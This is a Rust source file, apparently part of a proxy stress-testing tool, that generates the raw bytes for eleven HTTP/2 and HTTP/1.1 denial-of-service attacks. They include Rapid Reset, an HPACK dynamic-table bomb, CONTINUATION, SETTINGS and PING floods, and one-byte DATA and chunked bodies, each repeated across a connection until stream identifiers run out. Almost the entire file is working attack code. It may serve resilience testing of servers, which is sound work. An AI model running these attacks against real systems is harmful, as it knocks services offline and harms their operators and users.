//! The bytes that each attack sends: the opening of a connection, and the frames repeated until it
//! is closed.

use std::net::SocketAddr;

use clap::ValueEnum;

use super::bytes::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PREFACE,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, request,
};
use super::flow_control::FlowControl;

/// The largest read of a proxy.
const WRITE: usize = 256 * 1024;
/// With the overhead of 32 bytes per entry, almost the whole dynamic table of 4,096 bytes.
const BOMB_VALUE: usize = 3_900;
/// Indexed fields in a field block of the bomb, one byte each.
const BOMB_FIELDS: usize = 4_000;
/// A literal with incremental indexing and a name of one byte, up to the length of its value.
const BOMB_FIELD: [u8; 6] = [
    0x40,
    1,
    b'x',
    0x7f,
    0x80 | ((BOMB_VALUE - 0x7f) & 0x7f) as u8,
    ((BOMB_VALUE - 0x7f) >> 7) as u8,
];
/// The most recent entry of the dynamic table.
const NEWEST: u8 = 0x80 | 62;
/// `accept-encoding: gzip, deflate`, in the static table.
const STATIC: u8 = 0x80 | 16;
/// The highest stream identifier.
const LAST_STREAM: u32 = u32::MAX >> 1;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(super) enum AttackKind {
    /// Requests, each followed by a WINDOW_UPDATE with increment zero
    ZeroWindowUpdate,
    /// Complete requests, each followed by DATA on the half-closed stream
    HalfClosedData,
    /// Empty DATA frames on one open stream
    EmptyData,
    /// Empty DATA frames with END_STREAM on a stream that the receiver has reset
    ResetData,
    /// Field blocks of thousands of bytes that each refer to a large field
    HpackBomb,
    /// An HTTP/1.1 body in chunks of one byte
    TinyChunks,
    /// An HTTP/2 body in DATA frames of one byte, within the windows
    TinyData,
    /// Requests that are cancelled immediately
    RapidReset,
    /// A field block in CONTINUATION frames of one byte
    Continuation,
    /// SETTINGS frames, which the receiver has to acknowledge
    SettingsFlood,
    /// PING frames, which the receiver has to acknowledge
    PingFlood,
}

/// Generates the bytes of one connection.
pub(super) struct Attack {
    kind: AttackKind,
    authority: String,
    /// Field blocks of requests without and with a body.
    get: Vec<u8>,
    post: Vec<u8>,
    /// The next stream identifier.
    next: u32,
}

impl AttackKind {
    pub(super) fn is_http2(self) -> bool {
        self != Self::TinyChunks
    }
}

impl Attack {
    pub(super) fn new(kind: AttackKind, target: SocketAddr) -> Self {
        let authority = target.to_string();
        let mut get = request(GET, &authority);
        if kind == AttackKind::HpackBomb {
            get.extend([NEWEST; BOMB_FIELDS]);
        }
        Self {
            kind,
            get,
            post: request(POST, &authority),
            authority,
            next: 1,
        }
    }

    /// Returns the opening of the connection.
    pub(super) fn opening(&self) -> Vec<u8> {
        if !self.kind.is_http2() {
            let authority = &self.authority;
            return format!(
                "POST / HTTP/1.1\r\nhost: {authority}\r\ntransfer-encoding: chunked\r\n\r\n"
            )
            .into_bytes();
        }
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        frame(&mut bytes, SETTINGS, ACK, 0, &[]);
        bytes
    }

    /// Appends the bytes of one write, or fewer if windows are exhausted. Returns the number of
    /// opened streams.
    pub(super) fn fill(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u64 {
        let first = self.next;
        while bytes.len() < WRITE && !self.is_exhausted() && self.append_unit(bytes, flow_control) {
        }
        u64::from(self.next - first) / 2
    }

    /// Returns whether stream identifiers are exhausted.
    pub(super) fn is_exhausted(&self) -> bool {
        self.next >= LAST_STREAM
    }

    /// Appends one unit of the attack; returns `false` if windows are exhausted.
    fn append_unit(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> bool {
        match self.kind {
            AttackKind::ZeroWindowUpdate => {
                let stream = self.post(bytes);
                frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
            }
            AttackKind::HalfClosedData => {
                let stream = self.get(bytes);
                frame(bytes, DATA, 0, stream, b"x");
            }
            AttackKind::EmptyData => {
                let stream = self.body(bytes, flow_control);
                frame(bytes, DATA, 0, stream, &[]);
            }
            AttackKind::ResetData => {
                if self.next == 1 {
                    let stream = self.post(bytes);
                    frame(bytes, WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                frame(bytes, DATA, END_STREAM, 1, &[]);
            }
            AttackKind::HpackBomb if self.next == 1 => self.first_bomb_request(bytes),
            AttackKind::HpackBomb => {
                self.get(bytes);
            }
            AttackKind::TinyChunks => bytes.extend_from_slice(b"1\r\nx\r\n"),
            AttackKind::TinyData => {
                let stream = self.body(bytes, flow_control);
                if flow_control.take(1) == 0 {
                    return false;
                }
                frame(bytes, DATA, 0, stream, b"x");
            }
            AttackKind::RapidReset => {
                let stream = self.get(bytes);
                frame(bytes, RST_STREAM, 0, stream, &CANCEL);
            }
            AttackKind::Continuation if self.next == 1 => {
                let stream = self.stream();
                frame(bytes, HEADERS, END_STREAM, stream, &self.get);
            }
            AttackKind::Continuation => frame(bytes, CONTINUATION, 0, 1, &[STATIC]),
            AttackKind::SettingsFlood => frame(bytes, SETTINGS, 0, 0, &[]),
            AttackKind::PingFlood => frame(bytes, PING, 0, 0, &[0; 8]),
        }
        true
    }

    /// Appends the first request of the bomb, which inserts its field into the dynamic table.
    fn first_bomb_request(&mut self, bytes: &mut Vec<u8>) {
        let stream = self.stream();
        let mut block = request(GET, &self.authority);
        block.extend(BOMB_FIELD);
        block.extend([b'v'; BOMB_VALUE]);
        frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &block);
    }

    /// Appends a complete request.
    fn get(&mut self, bytes: &mut Vec<u8>) -> u32 {
        let stream = self.stream();
        frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, &self.get);
        stream
    }

    /// Appends the headers of a request with a body.
    fn post(&mut self, bytes: &mut Vec<u8>) -> u32 {
        let stream = self.stream();
        frame(bytes, HEADERS, END_HEADERS, stream, &self.post);
        stream
    }

    /// Returns the stream that carries data; opens a new one if it was reset.
    fn body(&mut self, bytes: &mut Vec<u8>, flow_control: &mut FlowControl) -> u32 {
        if let Some(stream) = flow_control.stream() {
            return stream;
        }
        let stream = self.post(bytes);
        flow_control.open(stream);
        stream
    }

    fn stream(&mut self) -> u32 {
        let stream = self.next;
        self.next += 2;
        stream
    }
}

#[cfg(test)]
mod tests;
